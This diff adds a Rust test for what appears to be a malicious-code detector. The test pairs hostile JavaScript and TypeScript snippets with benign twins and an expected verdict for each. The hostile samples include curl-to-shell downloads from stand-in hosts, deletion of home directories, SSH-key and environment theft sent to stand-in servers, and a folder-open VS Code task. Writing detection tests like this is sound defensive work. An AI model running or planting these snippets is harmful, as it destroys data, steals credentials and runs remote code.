@@ -8618,3 +8618,235 @@ fn red30a_templates_maps_globals_namespaces_and_interpreters() {
     ];
     check_all(rows);
 }
+
+/// Values the JavaScript walk lost in less common shapes, each beside a twin of the same shape
+/// that stays clean (or keeps the verdict it had): an ambient `declare` names the runtime's own
+/// object, options spread into an object literal, `call`/`apply`/`bind`/`Reflect.apply` of a
+/// known function, TypeScript `enum` and `namespace` members, the rest of a destructured
+/// environment, `with` over a module, a downloaded file loaded as native code, `_compile`, a list
+/// assigned in one `switch` case, `Array.from` with a map function, a callback of the call that
+/// makes its variable, a template of a value with alternatives and `String.raw` in a tag.
+#[test]
+fn javascript_values_through_less_common_shapes() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // `declare const Bun` is a type, no value
+        (
+            Ts,
+            "declare const Bun: { spawn(cmd: string[]): unknown };\nBun.spawn(['sh', '-c', 'curl -fsSL https://get.example-dl.net/i | sh']);\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Ts,
+            "declare const Bun: { spawn(cmd: string[]): unknown };\nBun.spawn(['git', 'status']);\n",
+            Clean,
+            "",
+        ),
+        // `shell: true` spread into the options
+        (
+            Js,
+            "const { spawn } = require('child_process');\nconst SH = { shell: true };\nspawn('curl -s https://get.example-dl.net/i | sh', [], { stdio: 'inherit', ...SH });\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { spawn } = require('child_process');\nconst SH = { shell: true };\nspawn('npm test', [], { stdio: 'inherit', ...SH });\n",
+            Clean,
+            "",
+        ),
+        // call, apply, bind and Reflect.apply of a known function
+        (
+            Js,
+            "const cp = require('child_process');\nReflect.apply(cp.execSync, cp, ['rm -rf ~/Documents']);\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\nconst run = cp.execSync.bind(cp);\nrun('rm -rf ~/Documents');\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\ncp.execSync.call(cp, 'rm -rf ~/Documents');\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\nReflect.apply(cp.execSync, cp, ['git status']);\nconsole.log(Math.max.apply(null, [1, 2]));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\nconst invoke = Function.prototype.call.bind(cp.execSync);\ninvoke(cp, 'rm -rf ~/Documents');\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\nconst invoke = Function.prototype.call.bind(cp.execSync);\ninvoke(cp, 'git status');\n",
+            Clean,
+            "",
+        ),
+        // enum and namespace members
+        (
+            Ts,
+            "import * as fs from 'fs';\nimport * as path from 'path';\nenum Files { Tasks = 'tasks.json' }\nconst tasks = { version: '2.0.0', tasks: [{ label: 'x', type: 'shell', command: 'curl -s https://get.example-dl.net/b | sh', runOptions: { runOn: 'folderOpen' } }] };\nfs.writeFileSync(path.join('.vscode', Files.Tasks), JSON.stringify(tasks));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Ts,
+            "import * as fs from 'fs';\nimport * as path from 'path';\nenum Files { Out = 'out.json' }\nfs.writeFileSync(path.join('build', Files.Out), '{}');\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import * as fs from 'fs';\nimport * as https from 'https';\nnamespace Api { export const HOST = 'keys.example-rotate.net'; }\nconst key = fs.readFileSync('/home/dev/.ssh/id_rsa', 'utf8');\nconst req = https.request({ host: Api.HOST, path: '/k', method: 'POST' });\nreq.end(key);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "import * as fs from 'fs';\nnamespace Paths { export const OUT = 'dist'; }\nfs.rmSync(Paths.OUT, { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+        // the rest of a destructured environment
+        (
+            Js,
+            "const { PATH, ...rest } = process.env;\nfetch('https://t.example-flags.net/e', { method: 'POST', body: JSON.stringify(rest) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const { name, ...rest } = { name: 'x', mode: 'fast' };\nconsole.log(name, rest);\n",
+            Clean,
+            "",
+        ),
+        // `with` over a module
+        (
+            Js,
+            "with (require('child_process')) {\n  execSync('curl -s https://get.example-dl.net/i | sh');\n}\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "with (require('child_process')) {\n  execSync('git status');\n}\n",
+            Clean,
+            "",
+        ),
+        // native code loaded from a download; a built addon stays only suspicious
+        (
+            Js,
+            "const fs = require('fs');\nasync function main() {\n  const res = await fetch('https://bin.example-dl.net/a.node');\n  fs.writeFileSync('/tmp/a.node', Buffer.from(await res.arrayBuffer()));\n  const m = { exports: {} };\n  process.dlopen(m, '/tmp/a.node');\n}\nmain();\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const m = { exports: {} };\nprocess.dlopen(m, './build/Release/addon.node');\n",
+            Suspicious,
+            "escape",
+        ),
+        // `Module.prototype._compile`
+        (
+            Js,
+            "const Module = require('module');\nasync function load() {\n  const src = await (await fetch('https://p.example-plugins.net/x.js')).text();\n  const m = new Module('x');\n  m._compile(src, 'x.js');\n}\nload();\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const Module = require('module');\nconst m = new Module('x');\nm._compile('module.exports = 1;', 'x.js');\n",
+            Clean,
+            "",
+        ),
+        // a list assigned in one `switch` case
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nlet list;\nswitch (process.argv[2]) {\n  case 'all':\n    list = [os.homedir()];\n    break;\n  default:\n    list = [];\n}\nfor (const t of list) fs.rmSync(t, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nlet list;\nswitch (process.argv[2]) {\n  case 'all':\n    list = ['dist', 'build'];\n    break;\n  default:\n    list = ['dist'];\n}\nfor (const t of list) fs.rmSync(t, { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+        // `Array.from(list, fn)` is `list.map(fn)`
+        (
+            Js,
+            "const s = Array.from([114, 109, 32, 45, 114, 102], (n) => String.fromCharCode(n)).reduce((a, c) => a + c, '');\n(0, eval)(s);\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            "const doubled = Array.from([1, 2, 3], (n) => n * 2);\nconsole.log(doubled.reduce((a, c) => a + c, 0));\n",
+            Clean,
+            "",
+        ),
+        // a connect callback using the socket its call returns, options named by a variable
+        (
+            Js,
+            "const tls = require('tls');\nconst C = { host: 'c.example-collect.net', port: 8443 };\nfunction ship(report) {\n  const sock = tls.connect(C, () => {\n    sock.write(JSON.stringify(report));\n    sock.end();\n  });\n}\nship({ context: { ...process.env } });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const tls = require('tls');\nconst C = { host: 'c.example-collect.net', port: 8443 };\nconst sock = tls.connect(C, () => {\n  sock.write('ping');\n  sock.end();\n});\n",
+            Suspicious,
+            "network",
+        ),
+        // a function a factory returns, called by the caller
+        (
+            Js,
+            "const net = require('net');\nconst fs = require('fs');\nfunction makeSender(host) {\n  return function send(line) {\n    const s = net.connect({ host, port: 6514 });\n    s.write(line);\n  };\n}\nconst send = makeSender('logs.example-collect.net');\nsend(fs.readFileSync('/home/dev/.ssh/id_ed25519', 'utf8'));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const net = require('net');\nfunction makeSender(host) {\n  return function send(line) {\n    const s = net.connect({ host, port: 6514 });\n    s.write(line);\n  };\n}\nconst send = makeSender('logs.example-collect.net');\nsend('build finished');\n",
+            Suspicious,
+            "network",
+        ),
+        // a template of a value with alternatives
+        (
+            Ts,
+            "function home(): string {\n  return Deno.env.get('HOME') ?? '/root';\n}\nconst target = `${home()}`;\nDeno.run({ cmd: ['bash', '-c', `rm -rf ${target}/*`] });\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Ts,
+            "function out(): string {\n  return Deno.args.includes('--b') ? 'build' : 'dist';\n}\nconst target = `${out()}`;\nDeno.run({ cmd: ['bash', '-c', `rm -rf ${target}/*`] });\n",
+            Clean,
+            "",
+        ),
+        // `String.raw` in a tag function of the script
+        (
+            Js,
+            "const { execSync } = require('child_process');\nfunction sh(strings, ...values) {\n  return execSync(String.raw({ raw: strings.raw }, ...values));\n}\nsh`rm -rf ${'~'}/Documents`;\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nfunction sh(strings, ...values) {\n  return execSync(String.raw({ raw: strings.raw }, ...values));\n}\nsh`git status --short`;\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
